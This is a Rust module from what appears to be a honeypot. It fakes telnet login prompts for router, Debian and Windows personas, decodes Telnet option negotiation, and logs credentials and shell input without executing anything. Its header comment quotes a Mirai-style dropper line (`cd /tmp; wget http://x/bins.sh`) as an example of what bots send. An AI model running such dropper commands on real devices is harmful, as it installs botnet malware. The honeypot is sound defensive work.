//! Telnet (23, 2323): the persona's telnetd and login, then the shared fake shell.
//!
//! Mirai-style botnets log in with factory credentials and paste a dropper (`cd /tmp; wget
//! http://x/bins.sh; …`) or the binary itself as `echo -ne` lines. Brute forcers (hydra) try
//! list after list. So the login behaves like a real one: it reads lines however the client
//! ends them (`\r\0` from NVT clients such as hydra, `\r\n`, `\n`, a bare `\r`), asks the one
//! login policy (`Session::check_login`), answers a refused login with "Login incorrect" and a
//! new prompt, and hangs up after the persona's number of tries, like BusyBox's `login`. A
//! login the policy lets in gets the [`shell`](crate::protocols::shell) of the persona, which
//! records every line, every offered download, and keeps every file an echo-loader rebuilds.
//! Nothing is executed and nothing is fetched.
//!
//! The first bytes are each persona's real telnetd negotiation, so `nmap -sV` names it:
//! BusyBox telnetd on the router, Linux telnetd (which waits for the client's answers before it
//! shows the login) on the Debian server, Microsoft Telnet Service on the Windows server.

use crate::capture::PayloadCapture;
use crate::config::{Persona, ServiceSection};
use crate::protocols::shell::editor::{Input, LineEditor};
use crate::protocols::shell::{Flavor, Recorder, Shell, ShellLimits, Via};
use crate::session::{Session, SessionResult};
use drosera_uplink::event::{CloseReason, Detail, Secret};
use std::time::Duration;

/// Default login prompt of the router (what the config's `banner` replaces).
pub const DEFAULT_BANNER: &str = "router login: ";
/// How long a refused login waits before "Login incorrect" (BusyBox and util-linux pause too).
const FAIL_DELAY: Duration = Duration::from_secs(1);
/// How long a telnetd that waits for the client's option answers waits at most.
const NEGOTIATION_WAIT: Duration = Duration::from_secs(2);

const IAC: u8 = 255;
const SB: u8 = 250;
const SE: u8 = 240;
const WILL: u8 = 251;
const DO: u8 = 253;
const DONT: u8 = 254;
const ECHO: u8 = 1;
/// Longest subnegotiation followed (longer ones are skipped without keeping their bytes).
const MAX_SB: usize = 256;

/// One persona's telnetd: its first bytes, prompts and login rules.
struct Telnetd {
    negotiation: &'static [u8],
    /// Waits for the client's answers (or [`NEGOTIATION_WAIT`]) before showing anything else.
    waits_for_client: bool,
    /// Sent after the negotiation (option offers, `/etc/issue.net`).
    issue: &'static [u8],
    login: &'static str,
    password: &'static str,
    incorrect: &'static str,
    /// Logins tried per connection before the server hangs up.
    tries: usize,
    flavor: Flavor,
}

fn telnetd(persona: Persona) -> Telnetd {
    match persona {
        // BusyBox telnetd: DO ECHO, DO NAWS, WILL ECHO, WILL SGA, then login(1)'s prompt.
        Persona::Mixed | Persona::IotRouter => Telnetd {
            negotiation: &[IAC, DO, ECHO, IAC, DO, 31, IAC, WILL, ECHO, IAC, WILL, 3],
            waits_for_client: false,
            issue: b"",
            login: DEFAULT_BANNER,
            password: "Password: ",
            incorrect: "\r\nLogin incorrect\r\n",
            tries: 3,
            flavor: Flavor::BusyBox,
        },
        // Debian's inetutils telnetd: DO TTYPE, TSPEED, XDISPLOC, NEW-ENVIRON; then the issue
        // and util-linux login (5 tries, LOGIN_RETRIES in Debian's login.defs).
        Persona::LinuxServer => Telnetd {
            negotiation: &[IAC, DO, 24, IAC, DO, 32, IAC, DO, 35, IAC, DO, 39],
            waits_for_client: true,
            issue: b"\xff\xfb\x01\xff\xfb\x03\r\nDebian GNU/Linux 12\r\n",
            login: "web01 login: ",
            password: "Password: ",
            incorrect: "\r\nLogin incorrect\r\n",
            tries: 5,
            flavor: Flavor::Debian,
        },
        // Microsoft Telnet Service: DO AUTH, WILL ECHO, WILL SGA, DO NEW-ENVIRON, DO NAWS,
        // DO BINARY, WILL BINARY.
        Persona::WindowsServer => Telnetd {
            negotiation: &[
                IAC, DO, 37, IAC, WILL, ECHO, IAC, WILL, 3, IAC, DO, 39, IAC, DO, 31, IAC, DO, 0, IAC, WILL, 0,
            ],
            waits_for_client: true,
            issue: b"Welcome to Microsoft Telnet Service \r\n\n\r",
            login: "login: ",
            password: "password: ",
            incorrect: "\r\nLogin Failed\r\n\n\r",
            tries: 3,
            flavor: Flavor::WindowsCmd,
        },
    }
}

/// Where the Telnet byte stream is between bytes: data, or inside an IAC sequence.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
enum IacState {
    #[default]
    Data,
    Iac,
    Verb(u8),
    Sb(usize),
    SbIac(usize),
}

/// What one byte of the stream was.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Decoded {
    /// A data byte (`IAC IAC` is one 0xFF data byte).
    Data(u8),
    /// An option command: `verb` is WILL, WONT, DO or DONT.
    Option { verb: u8, option: u8 },
    /// Part of a command or subnegotiation.
    Control,
}

/// An incremental Telnet decoder (commands may be split across reads). Subnegotiations are
/// skipped without being kept, so its memory is constant.
#[derive(Debug, Default)]
pub struct TelnetDecoder {
    state: IacState,
}

impl TelnetDecoder {
    pub fn byte(&mut self, b: u8) -> Decoded {
        let (next, out) = match (self.state, b) {
            (IacState::Data, IAC) => (IacState::Iac, Decoded::Control),
            (IacState::Data, _) => (IacState::Data, Decoded::Data(b)),
            (IacState::Iac, IAC) => (IacState::Data, Decoded::Data(IAC)),
            (IacState::Iac, WILL..=DONT) => (IacState::Verb(b), Decoded::Control),
            (IacState::Iac, SB) => (IacState::Sb(0), Decoded::Control),
            (IacState::Iac, _) => (IacState::Data, Decoded::Control),
            (IacState::Verb(verb), _) => (IacState::Data, Decoded::Option { verb, option: b }),
            (IacState::Sb(n), IAC) => (IacState::SbIac(n), Decoded::Control),
            (IacState::Sb(n), _) => (IacState::Sb((n + 1).min(MAX_SB)), Decoded::Control),
            (IacState::SbIac(_), SE) => (IacState::Data, Decoded::Control),
            (IacState::SbIac(n), _) => (IacState::Sb(n), Decoded::Control),
        };
        self.state = next;
        out
    }
}

/// The data bytes of `input`, Telnet commands removed (`IAC IAC` becomes one 0xFF).
pub fn strip_iac(input: &[u8]) -> Vec<u8> {
    let mut d = TelnetDecoder::default();
    input
        .iter()
        .filter_map(|&b| match d.byte(b) {
            Decoded::Data(x) => Some(x),
            _ => None,
        })
        .collect()
}

/// Shell output as a pty sends it over Telnet: `\n` becomes `\r\n`, 0xFF is escaped.
pub fn to_nvt(out: &[u8]) -> Vec<u8> {
    let mut v = Vec::with_capacity(out.len() + out.len() / 16);
    for &b in out {
        match b {
            b'\n' => v.extend_from_slice(b"\r\n"),
            IAC => v.extend_from_slice(&[IAC, IAC]),
            _ => v.push(b),
        }
    }
    v
}

/// Lines from the client: the Telnet decoder, then the line editor; the echo state follows
/// the client's answer to our WILL ECHO.
struct TelnetInput {
    decoder: TelnetDecoder,
    editor: LineEditor,
    /// The client refused our echo (DONT ECHO): it echoes locally.
    client_echoes: bool,
}

impl TelnetInput {
    /// The next line (or control key). Reads only what that takes; `echo` asks for the echo a
    /// pty would send (off for passwords).
    async fn next(&mut self, session: &mut Session, echo: bool) -> SessionResult<Input> {
        loop {
            let chunk = session.peek_some(4096).await?;
            let mut echo_out = Vec::new();
            let mut used = 0;
            let mut done = None;
            for &b in chunk {
                used += 1;
                match self.decoder.byte(b) {
                    Decoded::Data(d) => {
                        let (_, got) = self.editor.feed(&[d], echo && !self.client_echoes, &mut echo_out);
                        if got.is_some() {
                            done = got;
                            break;
                        }
                    }
                    Decoded::Option { verb, option: ECHO } if verb == DONT || verb == DO => {
                        self.client_echoes = verb == DONT;
                    }
                    _ => {}
                }
            }
            session.consume(used);
            if !echo_out.is_empty() {
                session.write_all(&to_nvt(&echo_out)).await?;
            }
            if let Some(input) = done {
                return Ok(input);
            }
        }
    }

    /// A text line for the login prompts: control keys other than Enter are refused (`None`).
    async fn login_line(&mut self, session: &mut Session, echo: bool) -> SessionResult<Option<String>> {
        match self.next(session, echo).await? {
            Input::Line(l) => Ok(Some(String::from_utf8_lossy(&l).into_owned())),
            Input::Interrupt => Ok(None),
            Input::Eof => Err(CloseReason::ClientClosed),
            Input::TooLong => Err(CloseReason::LineTooLong),
        }
    }
}

/// The shell's events go out through the Telnet session.
struct SessionRecorder<'a>(&'a Session);

impl Recorder for SessionRecorder<'_> {
    fn emit(&self, detail: Detail) {
        self.0.emit(detail);
    }
    fn capture(&self) -> PayloadCapture {
        self.0.capture("telnet-echo")
    }
    fn emit_capture(&self, capture: PayloadCapture, name: &str) {
        self.0.emit_capture(capture, name);
    }
}

pub(crate) async fn handle(session: &mut Session, svc: &ServiceSection) -> SessionResult<()> {
    let d = telnetd(session.persona());
    let mut input = TelnetInput {
        decoder: TelnetDecoder::default(),
        editor: LineEditor::new(session.limits.max_line),
        client_echoes: false,
    };
    session.write_all(d.negotiation).await?;
    if d.waits_for_client {
        session.flush().await?;
        // The client's answers (or the end of the wait) let the login start.
        if let Ok(Err(e)) = tokio::time::timeout(NEGOTIATION_WAIT, session.peek_some(1)).await {
            return Err(e);
        }
    }
    session.write_all(d.issue).await?;
    let prompt = svc.banner_or(d.login).to_string();
    let mut failures = 0;
    let user = loop {
        session.write_all(prompt.as_bytes()).await?;
        let Some(user) = input.login_line(session, true).await? else { continue };
        if user.is_empty() {
            continue;
        }
        session.write_all(d.password.as_bytes()).await?;
        let Some(pass) = input.login_line(session, false).await? else {
            session.write_all(b"\r\n").await?;
            continue;
        };
        session.write_all(b"\r\n").await?;
        let ok = session.check_login(&user, &pass);
        session.emit(Detail::Login {
            username: user.clone(),
            secret: Secret::Password(pass),
            success: ok,
            extra: vec![("method".into(), "telnet-login".into())],
        });
        if ok {
            break user;
        }
        failures += 1;
        session.flush().await?;
        tokio::time::sleep_until((tokio::time::Instant::now() + FAIL_DELAY).min(session.deadline())).await;
        session.write_all(d.incorrect.as_bytes()).await?;
        if failures >= d.tries {
            return Ok(());
        }
    };
    let limits = ShellLimits::for_session(session.limits.max_payload, session.max_sample_bytes());
    let mut shell = Shell::new(d.flavor, &user, limits);
    let result = run_shell(session, &mut input, &mut shell).await;
    shell.finish(&SessionRecorder(session));
    result
}

async fn run_shell(session: &mut Session, input: &mut TelnetInput, shell: &mut Shell) -> SessionResult<()> {
    let greeting = format!("{}{}", shell.motd(Via::Login), shell.prompt());
    session.write_all(&to_nvt(greeting.as_bytes())).await?;
    loop {
        match input.next(session, true).await? {
            Input::Line(l) => {
                let r = shell.input_line(&SessionRecorder(session), &l);
                session.write_all(&to_nvt(&r.output)).await?;
                if r.exit {
                    return Ok(());
                }
            }
            Input::Interrupt => {}
            Input::Eof => return Ok(()),
            Input::TooLong => return Err(CloseReason::LineTooLong),
        }
        session.write_all(shell.prompt().as_bytes()).await?;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn iac_sequences_are_stripped_across_any_split() {
        assert_eq!(strip_iac(&[IAC, WILL, 1, b'r', b'o', IAC, IAC, b't']), vec![b'r', b'o', IAC, b't']);
        assert_eq!(strip_iac(&[IAC, SB, 31, 0, 80, IAC, SE, b'x']), b"x");
        assert_eq!(strip_iac(&[b'a', IAC]), b"a");
        assert_eq!(strip_iac(&[IAC, 241, b'a', 0, b'b']), b"a\0b", "NOP skipped, NUL is data");
        let mut d = TelnetDecoder::default();
        assert_eq!(d.byte(IAC), Decoded::Control);
        assert_eq!(d.byte(DONT), Decoded::Control);
        assert_eq!(d.byte(ECHO), Decoded::Option { verb: DONT, option: ECHO });
        assert_eq!(d.byte(b'z'), Decoded::Data(b'z'));
    }

    #[test]
    fn nvt_output() {
        assert_eq!(to_nvt(b"a\nb\xff"), b"a\r\nb\xff\xff");
    }

    #[test]
    fn every_persona_has_a_telnetd() {
        for p in [Persona::Mixed, Persona::LinuxServer, Persona::WindowsServer, Persona::IotRouter] {
            let d = telnetd(p);
            assert_eq!(d.negotiation[0], IAC);
            assert!(d.tries >= 3 && d.login.ends_with(": "));
        }
    }

    #[test]
    fn hostile_input_never_panics() {
        for b in crate::protocols::hostile::random_inputs(0xfeed_f00d_dead_beef, 20_000, 100, false) {
            let mut d = TelnetDecoder::default();
            let mut ed = LineEditor::new(64);
            let mut echo = Vec::new();
            for &x in &b {
                if let Decoded::Data(c) = d.byte(x) {
                    let _ = ed.feed(&[c], true, &mut echo);
                }
            }
            let s = strip_iac(&b);
            assert!(s.len() <= b.len());
            assert!(to_nvt(&s).len() <= 2 * s.len());
        }
    }
}
